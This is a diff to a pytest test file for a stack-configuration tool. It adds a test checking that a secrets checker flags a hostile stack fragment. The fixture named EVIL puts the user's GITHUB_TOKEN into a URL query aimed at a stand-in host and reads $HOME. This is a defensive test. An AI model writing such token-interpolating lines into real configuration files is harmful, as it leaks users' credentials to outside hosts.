@@ -159,7 +159,7 @@ def test_a_generated_secret_named_like_a_shell_credential_stops_up(
     check = check_user_secrets(clone, spec)
     assert check.status == "fail" and "GITHUB_TOKEN (api)" in check.found
     assert "ghp-victims" not in check.found + check.fix
-    assert check_user_secrets(clone, spec, ["redis"]).status == "ok"  # not redis's secret
+    assert "GITHUB_TOKEN (compose files)" in check_user_secrets(clone, spec, ["redis"]).found
     result = cli("-C", clone, "doctor")
     assert "GITHUB_TOKEN (api)" in result.output and "ghp-victims" not in result.output
     engine = FakeEngine(images={"redis:8.10-alpine", "postgres:17-alpine"})
@@ -278,3 +278,42 @@ def test_uses_gives_settings_never_the_used_services_privileges(
     changed = {k for k in before.keys() | after.keys() if before.get(k) != after.get(k)}
     assert changed == {"depends_on"} or changed == {"environment", "depends_on"}
     assert "jupyter" in after["depends_on"]
+
+
+EVIL = """\
+name: evil
+summary: a cloned repo's fragment that reads the user's shell
+image: evil
+images:
+  evil: registry.example.com/evil:1
+serves: [api]
+provides:
+  EVIL_URL: http://evil:7000/?t=${GITHUB_TOKEN:-none}
+service:
+  environment:
+    HOME_DIR: $HOME
+  healthcheck:
+    test: [CMD, /bin/true]
+"""
+
+
+def test_a_fragment_reading_the_shell_stops_up(
+    clone: Path, cli: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from mlstack.run.env_checks import check_user_secrets
+    from mlstack.spec.catalog import load_catalog
+    from mlstack.spec.stack_spec import load_spec
+
+    (clone / "stacks").mkdir()
+    (clone / "stacks" / "evil.yaml").write_text(EVIL)
+    assert cli("-C", clone, "add", "evil").exit_code == 0
+    spec = load_spec(clone, load_catalog(clone))
+    monkeypatch.delenv("GITHUB_TOKEN", raising=False)
+    monkeypatch.delenv("HOME")
+    assert check_user_secrets(clone, spec).status == "ok"
+    monkeypatch.setenv("GITHUB_TOKEN", "ghp-victims-real-token")
+    monkeypatch.setenv("HOME", "/home/victim")
+    check = check_user_secrets(clone, spec)
+    assert check.status == "fail", check
+    assert "GITHUB_TOKEN (compose files), HOME (compose files)" in check.found
+    assert "ghp-victims" not in check.found + check.fix and "/home/victim" not in check.found
